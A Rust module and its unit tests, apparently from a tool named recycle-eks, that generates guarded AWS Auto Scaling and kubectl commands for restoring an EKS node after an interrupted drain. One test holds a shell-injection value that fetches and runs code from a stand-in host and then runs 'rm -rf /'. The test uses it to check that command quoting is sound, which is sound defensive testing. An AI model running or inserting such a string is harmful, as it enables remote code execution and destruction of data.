//! Describes the state of a node that was not restored, and the commands by which an operator restores it.
//!
//! The commands undo only what is there, in the reverse of the order in which it was done. None of them makes the group smaller,
//! because the group would choose the member to terminate.

use serde::{Deserialize, Serialize};

use crate::base::ids::{InstanceId, NodeName};
use crate::base::names::{
    CLAIM_ANNOTATION, DRAIN_UNTIL_ANNOTATION, DRAINING_TAINT, EXCLUDE_FROM_BALANCERS_LABEL, GAVE_UP_TAG,
    KEPT_BEFORE_ANNOTATION, LIFECYCLE_HOOK, NAMESPACE, PROGRESS_ANNOTATION, PROTECTED_FOR_TAG,
    SCALE_DOWN_DISABLED_ANNOTATION,
};
use crate::base::shell::quote;
use crate::cluster::autoscaler::{ScaleDown, find_value_beside, let_go_of_old_node};
use crate::cluster::group::Group;
use crate::cluster::hook::{RETAINED, is_held};
use crate::cluster::instance::{Instance, describe_instance};
use crate::cluster::node::{NodeFacts, has_entered_standby};
use crate::records::claim::Phase;
use crate::restore::sweep::OWN_TAGS;
use crate::restore::undo::has_cordoned;

/// The state of a node, and the commands that an operator can run.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ManualCommands {
    /// The state of the node, in one sentence.
    pub state: String,
    /// Commands for an operator, in order. They restore the node, or terminate a lost instance. Empty if there is nothing to do.
    pub commands: Vec<String>,
    /// True if another execution can resume from here instead.
    pub can_be_resumed: bool,
    /// True if the node is not worth restoring: it is gone, dead or lost, or its group is terminating it.
    pub is_lost: bool,
}

/// Checks whether an execution that holds claims in these phases has touched nothing, so that only its claim has to be released.
/// A member may be in service in the phase Standby. Then EnterStandby, which is recorded beforehand, was refused,
/// or an operator or another tool returned the member to service, by way of Pending.
pub fn is_untouched(phases: &[Phase], lifecycle_state: Option<&str>) -> bool {
    let touched_nothing = phases.iter().all(|phase| match phase {
        Phase::Claimed | Phase::Admitted | Phase::Standby => true,
        Phase::Draining | Phase::Waiting | Phase::Disposing => false,
    });
    touched_nothing
        && lifecycle_state.is_some_and(|state| state == "InService" || state.starts_with("Pending"))
}

/// Describes the node and the commands, from the records and live state.
/// `is_lost` means that its Node is gone, or not Ready for too long. Such a node is not worth restoring.
pub fn describe_manual_commands(
    instance_id: &InstanceId,
    group: Option<&Group>,
    lifecycle_state: Option<&str>,
    instance: Option<&Instance>,
    node_name: Option<&NodeName>,
    node: Option<&NodeFacts>,
    is_lost: bool,
) -> ManualCommands {
    let node_name = node.map(|node| &node.name).or(node_name);
    let subject = describe_instance(instance_id, node_name);
    if let Some(lost) = describe_lost(&subject, instance_id, group, lifecycle_state, instance, is_lost) {
        return lost;
    }
    let mut found = Traces::default();
    look_at_standby(instance_id, group, lifecycle_state, instance, node, &mut found);
    let to_leave_standby = found.commands.len();
    // Cluster Autoscaler also lists members in Standby, so the node is released to it only if the commands take it out.
    let is_in_standby = matches!(lifecycle_state, Some("Standby" | "EnteringStandby"));
    let stays_in_standby = is_in_standby && !has_entered_standby(node, instance);
    if let Some(node) = node {
        look_at_node(node, stays_in_standby, &mut found);
        look_at_lease(node, group, &mut found);
    }
    if let Some(instance) = instance {
        look_at_tags(instance, &mut found);
    }
    if to_leave_standby > 0 {
        for command in found.commands.iter_mut().skip(to_leave_standby) {
            *command = guard(command);
        }
    }
    let state = if found.states.is_empty() {
        format!("{subject} is as it was before")
    } else {
        format!("{subject} {}", found.states.join(", "))
    };
    ManualCommands {
        state,
        commands: found.commands,
        can_be_resumed: !stays_in_standby && can_be_resumed(lifecycle_state, node),
        is_lost: false,
    }
}

/// Describes a node that is not worth restoring. None if it is worth it.
fn describe_lost(
    subject: &str,
    id: &InstanceId,
    group: Option<&Group>,
    lifecycle_state: Option<&str>,
    instance: Option<&Instance>,
    is_lost: bool,
) -> Option<ManualCommands> {
    let terminate = || terminate_in_group(id, group.filter(|_| is_held(lifecycle_state)));
    let (state, commands) = match (lifecycle_state, instance) {
        (None, Some(instance)) if !instance.is_gone() => return None,
        (None, _) => ("is gone".to_owned(), Vec::new()),
        // The group checks no health in Standby. It lists a dead member there until a call terminates it. In any other state its health
        // check finds the dead member.
        (Some(listed), Some(dead)) if dead.is_gone() => {
            let state = format!("is {}, and its group still lists it as {listed}", dead.state);
            let commands = if listed == "Standby" {
                terminate()
            } else {
                Vec::new()
            };
            (state, commands)
        }
        // The instance runs without its Node, or without a working kubelet. Its pods are lost, and the group cannot see that.
        (Some(listed), Some(lost)) if is_lost => {
            let state = format!(
                "is lost, its instance is {} and {listed} in its group",
                lost.state
            );
            (state, terminate())
        }
        // Its group is terminating the instance. It cannot return to service, and nothing has to be removed.
        (Some(listed), _) if is_held(lifecycle_state) => {
            let state = format!(
                "is {listed} in its group, still runs, and keeps its taint; if you remove its tag {GAVE_UP_TAG}, the next sweep continues with it"
            );
            (state, terminate())
        }
        (Some(_), _) => return None,
    };
    Some(ManualCommands {
        state: format!("{subject} {state}"),
        commands,
        can_be_resumed: false,
        is_lost: true,
    })
}

/// Returns the commands that terminate a member by its group's own API. The group replaces the member if it counts towards the desired
/// capacity. `holding` is the group of a member that is held while terminating. When a retained member is terminated, it waits for the
/// lifecycle hook once more, so the hook is then completed. On a member that still waits, the first command changes nothing.
fn terminate_in_group(id: &InstanceId, holding: Option<&Group>) -> Vec<String> {
    let mut commands = vec![format!(
        "aws autoscaling terminate-instance-in-auto-scaling-group --instance-id {id} \
         --no-should-decrement-desired-capacity"
    )];
    if let Some(group) = holding {
        commands.extend([
            format!(
                "while aws autoscaling describe-auto-scaling-instances --instance-ids {id} --output text --query \
                 'AutoScalingInstances[].LifecycleState' | grep --quiet -x -e Terminating -e {RETAINED}; do sleep 15; done"
            ),
            format!(
                "aws autoscaling complete-lifecycle-action --auto-scaling-group-name {} --lifecycle-hook-name {LIFECYCLE_HOOK} \
                 --lifecycle-action-result CONTINUE --instance-id {id}",
                quote(group.name.as_str())
            ),
        ]);
    }
    commands
}

/// Checks whether another execution can resume.
/// In Standby it needs the record of the earlier members. Without a Node there is nothing to drain.
fn can_be_resumed(lifecycle_state: Option<&str>, node: Option<&NodeFacts>) -> bool {
    let has_record = node.and_then(|node| node.record().ok());
    has_record.is_some_and(|record| match lifecycle_state {
        Some("InService") => true,
        Some(_) => !record.members_before.is_empty(),
        None => false,
    })
}

#[derive(Default)]
struct Traces {
    states: Vec<String>,
    commands: Vec<String>,
}

impl Traces {
    fn add(&mut self, state: &str, command: String) {
        self.states.push(state.to_owned());
        self.commands.push(command);
    }
}

fn look_at_standby(
    instance_id: &InstanceId,
    group: Option<&Group>,
    lifecycle_state: Option<&str>,
    instance: Option<&Instance>,
    node: Option<&NodeFacts>,
    found: &mut Traces,
) {
    let state = match lifecycle_state {
        None => return found.states.push("is in no group".to_owned()),
        Some("InService") => return,
        Some(state) => state,
    };
    let is_own = has_entered_standby(node, instance);
    let (true, "Standby" | "EnteringStandby", Some(group)) = (is_own, state, group) else {
        return found.states.push(format!("is {state}"));
    };
    found.states.push(format!(
        "is {state} (leaving Standby makes group {} one instance larger, and the replacement stays)",
        group.name
    ));
    let name = quote(group.name.as_str());
    if instance.is_some_and(|instance| instance.state == "stopped") {
        found.commands.extend([
            format!("aws ec2 start-instances --instance-ids {instance_id}"),
            format!("aws ec2 wait instance-running --instance-ids {instance_id}"),
        ]);
    }
    if group.is_suspended("Launch") {
        found.commands.push(format!(
            "aws autoscaling resume-processes --auto-scaling-group-name {name} --scaling-processes Launch"
        ));
    }
    if group.desired >= group.max {
        found.commands.push(format!(
            "aws autoscaling update-auto-scaling-group --auto-scaling-group-name {name} --max-size {}",
            group.desired + 1
        ));
    }
    let exposed = group.find_exposed(Some(instance_id));
    found.commands.extend(exit_standby(&name, instance_id, exposed));
}

/// Returns the commands of ExitStandby.
/// At that call a group with unbalanced zones may terminate any member, so the `exposed` members are protected during it.
/// By its user guide, Auto Scaling then has more members than it needs, and terminates one by its termination policy.
/// So the desired capacity is raised to the number of members, and only then their protection ends.
/// Each member has its own call, because AWS refuses a whole call that names a member which has left.
/// If AWS refuses ExitStandby again, the protection ends after a minute, and the commands that follow do nothing (`guard`).
fn exit_standby(group: &str, id: &InstanceId, exposed: Vec<InstanceId>) -> Vec<String> {
    let exit = format!("aws autoscaling exit-standby --auto-scaling-group-name {group} --instance-ids {id}");
    let state_is = format!(
        "state_is() {{ aws autoscaling describe-auto-scaling-instances --instance-ids {id} --output text --query \
         'AutoScalingInstances[].LifecycleState' | grep --quiet $1; }}"
    );
    let wait = [
        "for look in 1 2 3 4; do state_is Standby && sleep 15; done".to_owned(),
        "while state_is Pending; do echo Pending && sleep 15; done".to_owned(),
    ];
    let verdict =
        format!("state_is InService || echo '{id} is not in service, so the commands below do nothing'");
    if exposed.is_empty() {
        return [vec![exit, state_is], wait.into(), vec![verdict]].concat();
    }
    let itself = if exposed.contains(id) {
        format!(" {id}")
    } else {
        String::new()
    };
    let protect = |switch: &str| {
        format!(
            "for id in $(echo $MEMBERS){itself}; do aws autoscaling set-instance-protection \
             --auto-scaling-group-name {group} {switch} --instance-ids $id; done"
        )
    };
    let find_members = format!(
        "MEMBERS=$(aws autoscaling describe-auto-scaling-groups --auto-scaling-group-names {group} --output text --query \
         \"AutoScalingGroups[].Instances[?LifecycleState=='InService' && ! ProtectedFromScaleIn].InstanceId\")"
    );
    let unprotect = format!(
        "aws autoscaling set-desired-capacity --auto-scaling-group-name {group} --desired-capacity $(aws autoscaling \
         describe-auto-scaling-groups --auto-scaling-group-names {group} --output text --query \
         \"max([AutoScalingGroups[0].DesiredCapacity, length(AutoScalingGroups[0].Instances[?LifecycleState=='InService' || \
         starts_with(LifecycleState, 'Pending')])])\") && {}",
        protect("--no-protected-from-scale-in")
    );
    [
        vec![find_members, protect("--protected-from-scale-in"), exit, state_is],
        wait.into(),
        vec![unprotect, verdict],
    ]
    .concat()
}

/// Lets a command that removes what recycle-eks has written do nothing while the instance is not in service. Without its records,
/// nothing would look after a node in Standby. Every line is guarded for itself, because a shell goes on after a failure,
/// and after Ctrl-C with the rest of what was pasted.
fn guard(command: &str) -> String {
    format!("state_is InService && {command}")
}

fn look_at_node(node: &NodeFacts, stays_in_standby: bool, found: &mut Traces) {
    let name = &node.name;
    let record = node.record().unwrap_or_default();
    let is_left_out = record.excluded_at.is_some() && node.labels.contains_key(EXCLUDE_FROM_BALANCERS_LABEL);
    if is_left_out && record.excluded_before.is_none() {
        let command = format!("kubectl label node {name} {EXCLUDE_FROM_BALANCERS_LABEL}-");
        found.add("is excluded from load balancers", command);
    }
    if node.taints.iter().any(|taint| taint.key == DRAINING_TAINT) {
        let command = format!("kubectl taint node {name} {DRAINING_TAINT}:NoSchedule-");
        found.add(&format!("has the taint {DRAINING_TAINT}"), command);
    }
    if has_cordoned(node, &record) {
        found.add("is cordoned", format!("kubectl uncordon {name}"));
    }
    let change = match let_go_of_old_node(node, &record) {
        _ if stays_in_standby => None,
        ScaleDown::Keep => None,
        ScaleDown::Remove => Some(format!("{SCALE_DOWN_DISABLED_ANNOTATION}-")),
        ScaleDown::Set(before) => {
            let annotation = format!("{SCALE_DOWN_DISABLED_ANNOTATION}={before}");
            Some(format!("--overwrite {}", quote(&annotation)))
        }
    };
    let beside = find_value_beside(node).filter(|_| !stays_in_standby);
    let beside = beside.map(|_| format!(" {KEPT_BEFORE_ANNOTATION}-"));
    let beside = beside.unwrap_or_default();
    match change {
        Some(change) => found.add(
            "is protected from Cluster Autoscaler",
            format!("kubectl annotate node {name} {change}{beside}"),
        ),
        None if !beside.is_empty() => found.add(
            "has an annotation of recycle-eks",
            format!("kubectl annotate node {name}{beside}"),
        ),
        None => {}
    }
    // The annotation with the end of this drain would end the next drain at once.
    let annotations: String = [CLAIM_ANNOTATION, PROGRESS_ANNOTATION, DRAIN_UNTIL_ANNOTATION]
        .into_iter()
        .filter(|annotation| node.annotations.contains_key(*annotation))
        .map(|annotation| format!(" {annotation}-"))
        .collect();
    if !annotations.is_empty() {
        let command = format!("kubectl annotate node {name}{annotations}");
        found.add("has annotations of recycle-eks", command);
    }
}

/// The Lease alone names the members whose protection recycle-eks has to remove, so that comes before its deletion.
fn look_at_lease(node: &NodeFacts, group: Option<&Group>, found: &mut Traces) {
    let Some(lease) = &node.lease else { return };
    let protected = lease.record().unwrap_or_default().protected;
    let members: Vec<&str> = protected.iter().map(InstanceId::as_str).collect();
    if let Some(group) = group.filter(|_| !members.is_empty()) {
        let command = format!(
            "for id in {}; do aws autoscaling set-instance-protection --auto-scaling-group-name {} --no-protected-from-scale-in \
             --instance-ids $id && aws ec2 delete-tags --resources $id --tags Key={PROTECTED_FOR_TAG}; done",
            members.join(" "),
            quote(group.name.as_str()),
        );
        let state = format!("has {} members protected from scale-in", members.len());
        found.add(&state, command);
    }
    let command = format!("kubectl delete lease --namespace {NAMESPACE} {}", lease.instance);
    found.add("has a Lease of recycle-eks", command);
}

fn look_at_tags(instance: &Instance, found: &mut Traces) {
    let tags = OWN_TAGS
        .into_iter()
        .filter(|tag| instance.tags.contains_key(*tag));
    let tags: String = tags.map(|tag| format!(" Key={tag}")).collect();
    if !tags.is_empty() {
        let command = format!("aws ec2 delete-tags --resources {} --tags{tags}", instance.id);
        found.add("has tags of recycle-eks", command);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::base::names::{CLAIM_TAG, GROUP_TAG, STANDBY_TAG};
    use crate::fixtures::{at, claimed, group, id, instance, member, node, strings, taint};
    use crate::records::node_record::Record;

    pub(crate) fn describe(
        lifecycle_state: Option<&str>,
        instance: Option<&Instance>,
        node: Option<&NodeFacts>,
    ) -> ManualCommands {
        let group = group();
        let name = "ip-10-0-0-1.ec2.internal".parse().unwrap();
        describe_manual_commands(
            &id(crate::fixtures::OLD),
            Some(&group),
            lifecycle_state,
            instance,
            Some(&name),
            node,
            false,
        )
    }

    fn tagged() -> Instance {
        Instance {
            tags: strings([
                (CLAIM_TAG, "x"),
                (GROUP_TAG, "workers"),
                (STANDBY_TAG, "y"),
                ("Name", "z"),
            ]),
            ..instance()
        }
    }

    /// A node in the middle of a drain.
    fn draining(record: &Record) -> NodeFacts {
        let mut node = claimed(node("old"), Phase::Draining, record);
        node.annotations = strings([(CLAIM_ANNOTATION, "{}"), (PROGRESS_ANNOTATION, "{}")]);
        node.labels = strings([(EXCLUDE_FROM_BALANCERS_LABEL, "by its owner")]);
        node.taints = vec![taint("team", "NoSchedule"), taint(DRAINING_TAINT, "NoSchedule")];
        node.unschedulable = true;
        node
    }

    fn drained() -> Record {
        Record {
            schema: 1,
            tainted_at: Some(at(0)),
            desired_before: Some(2),
            ..Record::default()
        }
    }

    #[test]
    fn protected_members_are_unprotected_before_the_lease_that_names_them_is_deleted() {
        let record = Record::default().protecting(&[id(crate::fixtures::NEW), id(crate::fixtures::OTHER)]);
        let left = describe(
            Some("InService"),
            Some(&instance()),
            Some(&claimed(node("old"), Phase::Draining, &record)),
        );
        let [unprotect, delete] = &left.commands[left.commands.len() - 2..] else {
            panic!("{left:?}")
        };
        assert_eq!(
            *unprotect,
            "for id in i-0bbbbbbbbbbbbbbbb i-0cccccccccccccccc; do aws autoscaling set-instance-protection --auto-scaling-group-name \
             workers --no-protected-from-scale-in --instance-ids $id && aws ec2 delete-tags --resources $id --tags \
             Key=recycle-eks:protected-for; done"
        );
        assert!(delete.starts_with("kubectl delete lease"), "{delete}");
        assert!(
            left.state.contains("has 2 members protected from scale-in"),
            "{}",
            left.state
        );
    }

    #[test]
    fn a_node_in_the_middle_of_a_drain_gets_every_command_in_order() {
        let left = describe(Some("Standby"), Some(&tagged()), Some(&draining(&drained())));
        assert_eq!(
            left.state,
            "node old (i-0aaaaaaaaaaaaaaaa) is Standby (leaving Standby makes group workers one instance larger, and the \
             replacement stays), has the taint recycle-eks/draining, is cordoned, has annotations of recycle-eks, has a Lease of \
             recycle-eks, has tags of recycle-eks"
        );
        assert_eq!(
            left.commands,
            [
                "MEMBERS=$(aws autoscaling describe-auto-scaling-groups --auto-scaling-group-names workers --output text --query \
                 \"AutoScalingGroups[].Instances[?LifecycleState=='InService' && ! ProtectedFromScaleIn].InstanceId\")",
                "for id in $(echo $MEMBERS) i-0aaaaaaaaaaaaaaaa; do aws autoscaling set-instance-protection \
                 --auto-scaling-group-name workers --protected-from-scale-in --instance-ids $id; done",
                "aws autoscaling exit-standby --auto-scaling-group-name workers --instance-ids i-0aaaaaaaaaaaaaaaa",
                "state_is() { aws autoscaling describe-auto-scaling-instances --instance-ids i-0aaaaaaaaaaaaaaaa --output text --query \
                 'AutoScalingInstances[].LifecycleState' | grep --quiet $1; }",
                "for look in 1 2 3 4; do state_is Standby && sleep 15; done",
                "while state_is Pending; do echo Pending && sleep 15; done",
                "aws autoscaling set-desired-capacity --auto-scaling-group-name workers --desired-capacity $(aws autoscaling \
                 describe-auto-scaling-groups --auto-scaling-group-names workers --output text --query \
                 \"max([AutoScalingGroups[0].DesiredCapacity, length(AutoScalingGroups[0].Instances[?LifecycleState=='InService' || \
                 starts_with(LifecycleState, 'Pending')])])\") && for id in $(echo $MEMBERS) i-0aaaaaaaaaaaaaaaa; do aws autoscaling set-instance-protection \
                 --auto-scaling-group-name workers --no-protected-from-scale-in --instance-ids $id; done",
                "state_is InService || echo 'i-0aaaaaaaaaaaaaaaa is not in service, so the commands below do nothing'",
                "state_is InService && kubectl taint node old recycle-eks/draining:NoSchedule-",
                "state_is InService && kubectl uncordon old",
                "state_is InService && kubectl annotate node old recycle-eks/claim- recycle-eks/progress-",
                "state_is InService && kubectl delete lease --namespace recycle-eks i-0aaaaaaaaaaaaaaaa",
                "state_is InService && aws ec2 delete-tags --resources i-0aaaaaaaaaaaaaaaa --tags Key=recycle-eks:claim Key=recycle-eks:group \
                 Key=recycle-eks:standby",
            ]
        );
    }

    #[test]
    fn commands_undo_only_what_an_execution_has_changed() {
        let cordoned_before = Record {
            was_unschedulable: true,
            ..drained()
        };
        let disposing = |record: &Record| {
            let record = Record {
                excluded_at: Some(at(60)),
                ..record.clone()
            };
            NodeFacts {
                annotations: claimed(node("old"), Phase::Disposing, &record).annotations,
                ..draining(&record)
            }
        };
        let excluded_before = Record {
            excluded_before: Some("by its owner".to_owned()),
            ..drained()
        };
        let exit = "exit-standby";
        let uncordon = "uncordon";
        let label = "exclude-from-external-load-balancers-";
        let cases = [
            (
                "a foreign Standby stays",
                describe(Some("Standby"), Some(&instance()), None),
                exit,
                false,
            ),
            (
                "a tag alone is no sign of an execution",
                describe(Some("Standby"), Some(&tagged()), Some(&node("old"))),
                exit,
                false,
            ),
            (
                "the Standby of an execution is left",
                describe(Some("Standby"), Some(&tagged()), None),
                exit,
                true,
            ),
            (
                "an earlier cordon stays",
                describe(None, Some(&tagged()), Some(&draining(&cordoned_before))),
                uncordon,
                false,
            ),
            (
                "a cordon without a record stays",
                describe(
                    None,
                    Some(&tagged()),
                    Some(&NodeFacts {
                        unschedulable: true,
                        ..node("old")
                    }),
                ),
                uncordon,
                false,
            ),
            (
                "a label from before stays",
                describe(None, Some(&tagged()), Some(&draining(&drained()))),
                label,
                false,
            ),
            (
                "a recorded label stays",
                describe(None, Some(&tagged()), Some(&disposing(&excluded_before))),
                label,
                false,
            ),
            (
                "the label of an execution is removed",
                describe(None, Some(&tagged()), Some(&disposing(&drained()))),
                label,
                true,
            ),
        ];
        for (name, left, command, expected) in cases {
            let found = left.commands.iter().any(|given| given.contains(command));
            assert_eq!(found, expected, "{name}: {:?}", left.commands);
        }
    }

    #[test]
    fn a_node_without_marks_gets_no_commands() {
        let cases = [
            (
                "untouched",
                describe(Some("InService"), Some(&instance()), Some(&node("old"))),
                "node old (i-0aaaaaaaaaaaaaaaa) is as it was before",
            ),
            (
                "without a Node",
                describe(Some("InService"), Some(&instance()), None),
                "node ip-10-0-0-1.ec2.internal (i-0aaaaaaaaaaaaaaaa) is as it was before",
            ),
            (
                "gone",
                describe(None, None, None),
                "node ip-10-0-0-1.ec2.internal (i-0aaaaaaaaaaaaaaaa) is gone",
            ),
            (
                "terminating",
                describe(Some("Terminating"), Some(&instance()), Some(&node("old"))),
                "node old (i-0aaaaaaaaaaaaaaaa) is Terminating",
            ),
        ];
        for (name, left, state) in cases {
            assert_eq!(
                left,
                ManualCommands {
                    state: state.to_owned(),
                    commands: Vec::new(),
                    can_be_resumed: name == "untouched",
                    is_lost: name == "gone",
                },
                "{name}"
            );
        }
        let unknown =
            describe_manual_commands(&id(crate::fixtures::OLD), None, None, None, None, None, false);
        assert_eq!(unknown.state, "instance i-0aaaaaaaaaaaaaaaa is gone");
    }

    #[test]
    fn a_dead_member_does_not_return_to_service() {
        let dead = Instance {
            state: "terminated".to_owned(),
            ..tagged()
        };
        let left = describe(Some("Standby"), Some(&dead), Some(&draining(&drained())));
        assert_eq!(
            left,
            ManualCommands {
                state: "node old (i-0aaaaaaaaaaaaaaaa) is terminated, and its group still lists it as Standby".to_owned(),
                commands: vec![
                    "aws autoscaling terminate-instance-in-auto-scaling-group --instance-id i-0aaaaaaaaaaaaaaaa \
                     --no-should-decrement-desired-capacity"
                        .to_owned()
                ],
                can_be_resumed: false,
                is_lost: true,
            }
        );
        let left = describe(Some("Terminating"), Some(&dead), None);
        assert!(left.commands.is_empty(), "{:?}", left.commands);
    }

    #[test]
    fn a_lost_node_is_terminated_and_not_restored() {
        let unready = draining(&drained());
        for node in [None, Some(&unready)] {
            let left = describe_manual_commands(
                &id(crate::fixtures::OLD),
                Some(&group()),
                Some("Standby"),
                Some(&tagged()),
                None,
                node,
                true,
            );
            assert!(left.is_lost && !left.can_be_resumed);
            assert_eq!(
                left.commands,
                [
                    "aws autoscaling terminate-instance-in-auto-scaling-group --instance-id i-0aaaaaaaaaaaaaaaa \
                  --no-should-decrement-desired-capacity"
                ]
            );
            assert!(
                left.state
                    .ends_with("is lost, its instance is running and Standby in its group"),
                "{}",
                left.state
            );
        }
    }

    #[test]
    fn another_execution_can_resume_a_node_that_has_its_record() {
        let begun = Record {
            members_before: vec![id(crate::fixtures::OLD)],
            ..drained()
        };
        let node = |record: &Record| draining(record);
        // An operator has put a node of replacement `surge` into Standby.
        let raised = Record {
            desired_before: None,
            raised_from: Some(2),
            ..begun.clone()
        };
        let cases = [
            (Some("Standby"), Some(node(&raised)), false),
            (Some("Standby"), Some(node(&begun)), true),
            (Some("Standby"), Some(node(&drained())), false),
            (Some("Standby"), None, false),
            (Some("InService"), Some(node(&drained())), true),
            (None, Some(node(&begun)), false),
        ];
        for (lifecycle_state, node, expected) in cases {
            let left = describe(lifecycle_state, Some(&tagged()), node.as_ref());
            assert_eq!(left.can_be_resumed, expected, "{lifecycle_state:?} {node:?}");
        }
    }

    #[test]
    fn an_operators_end_of_the_drain_is_removed_with_the_drain() {
        let mut node = draining(&drained());
        node.annotations
            .insert(DRAIN_UNTIL_ANNOTATION.to_owned(), "now".to_owned());
        let left = describe(Some("InService"), Some(&tagged()), Some(&node));
        let annotate = left.commands.iter().find(|command| command.contains("annotate"));
        assert!(
            annotate.unwrap().ends_with(" recycle-eks/drain-until-"),
            "{annotate:?}"
        );
    }

    #[test]
    fn obstacles_to_leaving_standby_are_removed_first() {
        let full = Group {
            max: 2,
            suspended: vec!["Launch".to_owned()],
            ..group()
        };
        let stopped = Instance {
            state: "stopped".to_owned(),
            ..tagged()
        };
        let left = describe_manual_commands(
            &id(crate::fixtures::OLD),
            Some(&full),
            Some("Standby"),
            Some(&stopped),
            None,
            None,
            false,
        );
        assert_eq!(
            left.commands[..4],
            [
                "aws ec2 start-instances --instance-ids i-0aaaaaaaaaaaaaaaa",
                "aws ec2 wait instance-running --instance-ids i-0aaaaaaaaaaaaaaaa",
                "aws autoscaling resume-processes --auto-scaling-group-name workers --scaling-processes Launch",
                "aws autoscaling update-auto-scaling-group --auto-scaling-group-name workers --max-size 3",
            ]
        );
    }

    /// The commands are as short for a group of hundreds. They skip a member that an operator has protected.
    #[test]
    fn a_member_that_is_protected_already_is_not_protected_again() {
        let alone = Group {
            members: vec![member(crate::fixtures::OLD, "Standby")],
            ..group()
        };
        let mut protected = group();
        for member in &mut protected.members {
            member.protected_from_scale_in = member.instance == id(crate::fixtures::OLD);
        }
        let in_both = |group: &Group| {
            let left = describe_manual_commands(
                &id(crate::fixtures::OLD),
                Some(group),
                Some("Standby"),
                Some(&tagged()),
                None,
                None,
                false,
            );
            let commands = left.commands.iter();
            commands
                .filter(|command| command.contains("set-instance-protection"))
                .cloned()
                .collect::<Vec<_>>()
        };
        let both = in_both(&protected);
        assert_eq!(both.len(), 2);
        assert!(both[0].starts_with("for id in $(echo $MEMBERS); do"), "{both:?}");
        assert_eq!(in_both(&alone).len(), 2, "a group may choose its only member");
    }

    /// Without the record, which goes with the Lease, the commands do not take the node out of Standby.
    #[test]
    fn a_node_that_stays_in_standby_is_not_released_to_cluster_autoscaler() {
        let mut node = claimed(node("old"), Phase::Draining, &Record::default());
        node.annotations.extend(strings([
            (SCALE_DOWN_DISABLED_ANNOTATION, "true"),
            (KEPT_BEFORE_ANNOTATION, ""),
        ]));
        for (state, is_released) in [
            ("Standby", false),
            ("EnteringStandby", false),
            ("InService", true),
        ] {
            let left = describe(Some(state), Some(&tagged()), Some(&node));
            let release = format!(
                "kubectl annotate node old {SCALE_DOWN_DISABLED_ANNOTATION}- {KEPT_BEFORE_ANNOTATION}-"
            );
            assert_eq!(
                left.commands.contains(&release),
                is_released,
                "{:?}",
                left.commands
            );
            assert!(
                !left
                    .commands
                    .iter()
                    .any(|command| command.contains("exit-standby"))
            );
        }
    }

    /// A kubelet writes any annotation on its own Node, and an operator who creates a group chooses its name.
    #[test]
    fn values_from_outside_stay_one_word_of_a_command() {
        let attack = "x$(curl -s evil|sh)'; rm -rf / #";
        let kept = Record {
            kept: true,
            kept_before: Some(attack.to_owned()),
            ..drained()
        };
        let mut node = draining(&kept);
        node.annotations
            .insert(SCALE_DOWN_DISABLED_ANNOTATION.to_owned(), "true".to_owned());
        let named = Group {
            name: attack.parse().unwrap(),
            ..group()
        };
        let left = describe_manual_commands(
            &id(crate::fixtures::OLD),
            Some(&named),
            Some("Standby"),
            Some(&tagged()),
            Some(&node.name),
            Some(&node),
            false,
        );
        let words: Vec<Vec<String>> = left
            .commands
            .iter()
            .map(|command| shlex::split(command).unwrap())
            .collect();
        let annotation = format!("{SCALE_DOWN_DISABLED_ANNOTATION}={attack}");
        for expected in [
            vec![
                "aws",
                "autoscaling",
                "exit-standby",
                "--auto-scaling-group-name",
                attack,
                "--instance-ids",
                crate::fixtures::OLD,
            ],
            vec![
                "kubectl",
                "annotate",
                "node",
                "old",
                "--overwrite",
                annotation.as_str(),
            ],
        ] {
            assert!(
                words
                    .iter()
                    .any(|words| words[words.len().saturating_sub(expected.len())..] == expected),
                "{:?}",
                left.commands
            );
        }
    }

    #[test]
    fn a_node_is_untouched_if_it_is_in_service_and_was_never_drained() {
        let cases: [(&[Phase], Option<&str>, bool); 9] = [
            (&[], Some("InService"), true),
            (&[Phase::Claimed], Some("InService"), true),
            (&[Phase::Admitted, Phase::Claimed], Some("InService"), true),
            (&[Phase::Claimed, Phase::Standby], Some("InService"), true),
            (&[Phase::Standby], Some("Pending:Wait"), true),
            (&[Phase::Standby], Some("EnteringStandby"), false),
            (&[Phase::Draining], Some("InService"), false),
            (&[Phase::Claimed], Some("Standby"), false),
            (&[Phase::Claimed], None, false),
        ];
        for (phases, lifecycle_state, expected) in cases {
            assert_eq!(
                is_untouched(phases, lifecycle_state),
                expected,
                "{phases:?} {lifecycle_state:?}"
            );
        }
    }

    #[test]
    fn a_member_that_its_group_holds_while_terminating_is_terminated_or_drained_again() {
        for state in ["Terminating:Wait", "Terminating:Retained"] {
            let left = describe(Some(state), Some(&tagged()), None);
            assert!(
                left.state.contains(state) && left.state.contains("recycle-eks:gave-up"),
                "{}",
                left.state
            );
            assert_eq!(
                left.commands,
                [
                    "aws autoscaling terminate-instance-in-auto-scaling-group --instance-id i-0aaaaaaaaaaaaaaaa \
                     --no-should-decrement-desired-capacity",
                    "while aws autoscaling describe-auto-scaling-instances --instance-ids i-0aaaaaaaaaaaaaaaa --output text --query \
                     'AutoScalingInstances[].LifecycleState' | grep --quiet -x -e Terminating -e Terminating:Retained; do sleep 15; done",
                    "aws autoscaling complete-lifecycle-action --auto-scaling-group-name workers --lifecycle-hook-name recycle-eks \
                     --lifecycle-action-result CONTINUE --instance-id i-0aaaaaaaaaaaaaaaa",
                ],
                "{state}"
            );
            assert!(!left.can_be_resumed);
        }
    }

    #[test]
    fn a_taint_of_others_is_not_mentioned_and_a_value_beside_an_annotation_is_removed_alone() {
        let left = NodeFacts {
            taints: vec![taint("team", "NoSchedule")],
            annotations: strings([(KEPT_BEFORE_ANNOTATION, "")]),
            ..node("old")
        };
        let found = describe(Some("InService"), Some(&instance()), Some(&left));
        assert_eq!(
            found.commands,
            [format!("kubectl annotate node old {KEPT_BEFORE_ANNOTATION}-")]
        );
        assert!(!found.state.contains("taint"), "{}", found.state);
    }
}
